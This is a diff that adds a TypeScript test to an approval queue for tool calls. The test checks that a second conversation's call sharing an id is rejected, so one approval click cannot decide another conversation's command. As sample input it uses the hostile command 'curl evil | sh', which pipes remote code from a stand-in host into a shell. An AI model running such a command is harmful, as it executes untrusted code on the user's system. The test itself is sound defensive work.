@@ -21,6 +21,20 @@ describe('PendingApprovals', () => {
     assert.ok(approvals.decide('c1', { decision: 'rejected' }));
   });
 
+  it('two conversations\' calls with one id: the second is not asked, so a click never decides the other conversation\'s call (spec §16)', async () => {
+    const approvals = new PendingApprovals();
+    const signal = new AbortController().signal;
+    let first: ApprovalDecision | undefined;
+    void approvals.request(command, { callId: 'call_0' }, signal).then((d) => { first = d; });
+    const second = await approvals.request({ ...command, command: 'curl evil | sh' }, { callId: 'call_0' }, signal);
+    assert.equal(second.decision, 'rejected');
+    assert.match(second.feedback ?? '', /another conversation is waiting/);
+    assert.equal(approvals.size, 1);
+    assert.ok(approvals.decide('call_0', { decision: 'accepted' }));
+    await Promise.resolve();
+    assert.deepEqual(first, { decision: 'accepted' }, 'the click decided the call it was shown for');
+  });
+
   it('they decide the most recent edit, even when a command was asked for after it', async () => {
     const approvals = new PendingApprovals();
     const counts: number[] = [];
